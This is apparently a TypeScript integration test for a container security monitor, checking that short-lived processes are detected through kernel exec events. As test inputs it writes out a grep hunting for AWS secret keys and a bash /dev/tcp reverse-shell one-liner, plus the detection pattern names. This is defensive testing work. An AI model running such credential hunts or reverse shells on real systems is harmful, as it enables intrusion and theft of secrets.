import { describe, expect, it } from 'vitest';
import { GATEWAY, TEST_PREFIX } from '../../../helpers/testbed.js';
import type { MonitorBed } from '../../../helpers/monitor-bed.js';
import { attackerPort, monitorBedForFile } from '../../../helpers/monitor-bed.js';

/**
 * Processes that live far less than the 100 ms /proc poll, in real containers against the
 * in-process monitor daemon: only the kernel's exec events can see all of them. Each attack runs
 * from a script file, so the shell that times it carries no pattern on its own command line.
 */

let bed: MonitorBed;
monitorBedForFile(attackerPort(), (b) => (bed = b));

const TRIALS = 10;
/**
 * A credential grep that lives about 10 ms: it blocks opening the fifo `$1` until it is killed.
 * Prints how long that took in ms, an upper bound of its life (fork, kill and wait included).
 */
const SHORT_GREP = `mkfifo "$1"
t0=$(date +%s%N)
grep -r aws_secret_access_key "$1" & sleep 0.01; kill $!; wait
t1=$(date +%s%N)
echo $(( (t1 - t0) / 1000000 ))
`;

describe('short-lived processes, seen by their exec', () => {
  it('the daemon listens to the kernel, not only the poll', () => {
    expect(bed.daemon.status().processEvents).toMatchObject({ state: 'events' });
  });

  it(`records every one of ${TRIALS} credential greps that live about 10 ms`, async () => {
    const c = await bed.launch('short-grep');
    await bed.incus.files.push(c.name, '/tmp/short-grep.sh', Buffer.from(SHORT_GREP));
    const lifetimes: number[] = [];
    for (let i = 0; i < TRIALS; i++) {
      // Each trial its own fifo, so its own command line and record.
      const r = await bed.incus.exec.run(c.name, ['sh', '/tmp/short-grep.sh', `/tmp/f-${i}`]);
      lifetimes.push(Number(r.stdout.toString().trim()));
    }
    // On a loaded host the bound itself may pass 50 ms now and then; the typical life may not.
    const median = [...lifetimes].sort((a, b) => a - b)[Math.floor(TRIALS / 2)]!;
    expect(median, lifetimes.join(' ')).toBeLessThan(50);
    expect(Math.min(...lifetimes)).toBeGreaterThanOrEqual(10);
    for (let i = 0; i < TRIALS; i++) {
      const record = await bed.waitForRecord(c.name, (r) => r.description.includes(`/tmp/f-${i}`));
      expect(record).toMatchObject({
        level: 'warning',
        category: 'credential_access',
        action: 'alerted',
        evidence: {
          process: {
            pattern: 'grep-keys',
            command: `grep -r aws_secret_access_key /tmp/f-${i}`,
          },
        },
      });
    }
    // A warning only: the container runs on.
    expect(await bed.status(c.name)).toBe('Running');
  });

  it('kills a container whose reverse shell lived 10 ms, and the record names it', async () => {
    const c = await bed.launch('short-revshell');
    const shell = `bash -i >& /dev/tcp/${GATEWAY}/1 0>&1`;
    // However the gateway answers port 1, timeout ends the attempt within 10 ms.
    await bed.incus.files.push(
      c.name,
      '/tmp/attack.sh',
      Buffer.from(`timeout 0.01 bash -c '${shell}'\n`),
    );
    bed.fire(c.name, ['sh', '/tmp/attack.sh']);
    const record = await bed.waitForRecord(c.name, (r) => r.level === 'critical');
    expect(record).toMatchObject({
      title: 'Reverse shell detected',
      action: 'killed',
      evidence: { process: { pattern: 'dev-tcp-shell' } },
    });
    expect(record.description).toContain(`/dev/tcp/${GATEWAY}/1`);
    expect(record.forensic_copy).toMatch(new RegExp(`^${TEST_PREFIX}forensics-${c.hash}-1-\\d+$`));
    await bed.waitForStatus(c.name, undefined);
    // timeout's command line and bash's (its child) are one attack: one record.
    expect((await bed.records(c.name)).filter((r) => r.level === 'critical')).toHaveLength(1);
  });
});
